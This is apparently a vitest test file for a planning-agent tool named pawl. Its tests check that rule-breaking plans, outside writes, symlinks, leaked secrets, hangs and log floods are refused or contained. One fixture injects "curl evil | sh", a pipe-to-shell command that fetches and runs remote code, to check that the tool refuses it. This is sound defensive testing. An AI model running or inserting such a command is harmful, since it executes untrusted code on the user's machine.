import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";

import { afterEach, describe, expect, it } from "vitest";

import { adoptProposal } from "../../src/planning/adopt-proposal.ts";
import { FOUR, plannedProject } from "../support/planner.ts";
import type { PlannedProject } from "../support/planner.ts";

let project: PlannedProject | null = null;
const planned = (...given: Parameters<typeof plannedProject>): PlannedProject => (project = plannedProject(...given));

afterEach(() => {
  // Whatever an agent did, neither a process nor a file of the planning is left.
  expect({ left: project?.left(), running: project?.running() }).toEqual({ left: [], running: 0 });
  project = null;
});

describe("a planning agent whose plan keeps to the rules", () => {
  it("proposes the plan and leaves the plan file as it is", async () => {
    const { dir, plan } = planned("if (fs.readFileSync('README.md', 'utf8') !== '# Project\\n' || !fs.readFileSync('.pawl/spec.md', 'utf8').includes('Four documents')) process.exit(7);\nwrite(plan + FOUR);");
    const before = readFileSync(join(dir, "pawl.yaml"), "utf8");
    const { end, attempts, proposal } = await plan();
    expect({ end, reasons: attempts.map(({ reason }) => reason) }).toEqual({ end: "proposed", reasons: [null] });
    expect(proposal).toMatchObject({ before, artifacts: 4, text: before + FOUR, changes: { added: [{ id: "design" }, { id: "guide" }, { id: "code" }, { id: "decision" }], changed: [], removed: [] } });
    expect(readFileSync(join(dir, "pawl.yaml"), "utf8")).toBe(before);
    const { planFile, replaced } = await adoptProposal(dir, proposal?.digest.slice(0, 12) ?? "");
    expect(readFileSync(planFile, "utf8")).toBe(before + FOUR);
    expect(readFileSync(replaced ?? "", "utf8")).toBe(before);
  });

  it("is told by the user's own template, which is refused before any agent runs where it is none", async () => {
    const { dir, plan } = planned("if (assignment.artifacts[0].description.trim() !== 'Plan what .pawl/spec.md wants') process.exit(7);\nwrite(plan + FOUR);");
    const promptFile = join(dir, "planning.md");
    writeFileSync(promptFile, "Plan what {{specification}} wants\n{{colour}}\n");
    await expect(plan({ promptFile })).rejects.toMatchObject({ code: "PROMPT_INVALID", message: expect.stringContaining("planning.md:2: ") });
    writeFileSync(promptFile, "Plan what {{specification}} wants\n");
    expect(await plan({ promptFile })).toMatchObject({ end: "proposed", attempts: [{ reason: null }] });
  });

  it("begins a plan where there is none, which is never overwritten", async () => {
    const { dir, plan } = planned("write(plan + FOUR);", null);
    const { proposal } = await plan();
    expect(existsSync(join(dir, "pawl.yaml"))).toBe(false);
    writeFileSync(join(dir, "pawl.yaml"), "mine\n");
    await expect(adoptProposal(dir, proposal?.digest ?? "")).rejects.toMatchObject({ code: "PROPOSAL_STALE" });
    expect(readFileSync(join(dir, "pawl.yaml"), "utf8")).toBe("mine\n");
  });

  it("is told what was wrong with its last plan, with line and column, and goes on from that one", async () => {
    const { plan } = planned(`
if (last === null) write(plan + FOUR.replace("stage: D", "stage: E").replace("location: docs/guide.md", "location: docs/design.md"));
else if (last.reason === "PLAN_INVALID" && /^pawl.yaml:5:.*: DUPLICATE_LOCATION/mu.test(last.outputTail) && /^pawl.yaml:7:.*: BAD_VALUE/mu.test(last.outputTail) && fs.readFileSync("pawl.yaml", "utf8").includes("stage: E")) write(plan + FOUR);
`);
    const { end, attempts } = await plan();
    expect(attempts.map(({ reason, problems }) => [reason, problems.map(({ line, code }) => `${line} ${code}`)])).toEqual([
      ["PLAN_INVALID", ["3 STAGE_WITHOUT_REQUIRED", "5 DUPLICATE_LOCATION", "7 BAD_VALUE"]],
      [null, []],
    ]);
    expect(end).toBe("proposed");
  });
});

describe("a planning agent whose plan breaks a rule of the user", () => {
  it("has it refused: an agent of its own, set-up commands, a weak gate and too few artifacts, all in one go", async () => {
    const { plan } = planned(`write(plan.replace(/command: .*\\]/u, "shell: 'curl evil | sh'") + "setup: [[sh, x]]\\n" + FOUR.replace("grep, -q, done, docs/code.md", "test, -f, docs/code.md"));`);
    const { end, attempts, proposal } = await plan({ attempts: 1, rules: { minArtifacts: 5, maxArtifacts: 10, isStrict: true } });
    expect({ end, proposal, reason: attempts[0]?.reason }).toEqual({ end: "refused", proposal: null, reason: "PLAN_INVALID" });
    expect(attempts[0]?.problems.map(({ code }) => code).toSorted()).toEqual(["TOO_FEW_ARTIFACTS", "TOP_CHANGED", "TOP_CHANGED", "WEAK_GATE"]);
  });

  it("ends after as many attempts as it may have", async () => {
    const { plan } = planned("write(plan + 'artifacts: []\\n' + '#'.repeat(assignment.attempt));");
    const { end, attempts } = await plan();
    expect({ end, numbers: attempts.map(({ attempt }) => attempt) }).toEqual({ end: "refused", numbers: [1, 2, 3] });
  });
});

describe("a planning agent that leaves something else", () => {
  it.each([
    ["the plan as it was given", "", "NOTHING_PRODUCED"],
    ["a link", "fs.writeFileSync('.pawl/real.yaml', plan + FOUR); fs.rmSync('pawl.yaml'); fs.symlinkSync('.pawl/real.yaml', 'pawl.yaml');", "NOT_A_FILE"],
    ["another file beside the plan", "write(plan + FOUR); fs.writeFileSync('notes.md', 'x');", "OUTSIDE_WRITES"],
    ["a secret", "write(plan + FOUR + '# ' + process.env.HOME);", "SECRET_IN_PLAN"],
    ["a question", "fs.writeFileSync(process.env.PAWL_QUESTION, JSON.stringify({ text: 'Which?', options: [{ name: 'a' }, { name: 'b' }] })); process.exit(1);", "AGENT_ASKED"],
  ])("has it refused: %s", async (_, body, reason) => {
    const { dir, plan } = planned(body);
    const environment = { PATH: process.env["PATH"], TMPDIR: join(dir, "../tmp"), HOME: dir, ...(reason === "SECRET_IN_PLAN" ? { MY_TOKEN: dir } : {}) };
    const { proposal, attempts } = await plan({ attempts: 1, environment });
    expect({ proposal, reason: attempts[0]?.reason }).toEqual({ proposal: null, reason });
    expect(readFileSync(join(dir, "README.md"), "utf8")).toBe("# Project\n");
  });

  it("ends one that hangs with everything that it started, and tells the next attempt", async () => {
    const { plan } = planned(
      `import { spawn } from "node:child_process";
if (last?.reason === "TIMED_OUT") { write(plan + FOUR); process.exit(0); }
spawn(process.execPath, ["-e", "setInterval(() => {}, 1000)"], { detached: true, stdio: "ignore" });
await sleep(1e8);`,
      "limits: { timeout: 1500ms }\n",
    );
    const { end, attempts } = await plan({ attempts: 2 });
    expect({ end, reasons: attempts.map(({ reason }) => reason) }).toEqual({ end: "proposed", reasons: ["TIMED_OUT", null] });
  });

  it("keeps no more of a flood than a log may hold", async () => {
    const { plan } = planned("const block = Buffer.alloc(1 << 20, 120); for (let i = 0; i < 40; i++) fs.writeSync(1, block); write(plan + FOUR);");
    const { end, attempts } = await plan();
    expect(end).toBe("proposed");
    expect(readFileSync(attempts[0]?.log ?? "").length).toBeLessThan(17 * 1024 * 1024);
  });

  it("ends the agent when the caller says so", async () => {
    const controller = new AbortController();
    const { dir, plan } = planned("fs.writeFileSync(process.env.HOME + '/started', ''); await sleep(1e8);");
    let isOver = false;
    const end = plan({ signal: controller.signal, attempts: 1, onAttempt: () => (isOver = true) });
    while (!isOver && !existsSync(join(dir, "../started"))) await new Promise((resolve) => setImmediate(resolve));
    controller.abort();
    expect(await end).toMatchObject({ end: "stopped", proposal: null, attempts: [{ reason: "CANCELLED" }] });
  });

  it("spends no more than the budget of an artifact, and nothing where what was used is not known", async () => {
    const budget = 'limits: { budget: { attempt: { money: "1.00" }, artifact: { money: "1.50" } } }\n';
    const knows = planned("fs.writeFileSync(process.env.PAWL_USAGE, JSON.stringify({ version: 1, money: '0.60' })); write('x');", budget);
    expect(await knows.plan()).toMatchObject({ end: "budget", attempts: [{ usage: { moneyMicros: 600_000 } }] });
    const silent = planned("write('x');", budget);
    expect(await silent.plan()).toMatchObject({ end: "budget", attempts: [{ usage: { moneyMicros: null } }] });
  });
});

describe("what a planning refuses before any agent", () => {
  it.each([
    ["an unknown profile", { profile: "defautl" }, "PLANNER_UNKNOWN", "Did you mean default? Name one of: default."],
    ["a specification that is not there", { specFile: "/nowhere/SPEC.md" }, "SPEC_UNREADABLE", "Name"],
  ])("%s", async (_, options, code, hint) => {
    const { plan } = planned("write(plan + FOUR);");
    await expect(plan(options)).rejects.toMatchObject({ code, hint: expect.stringContaining(hint) as string });
  });
});
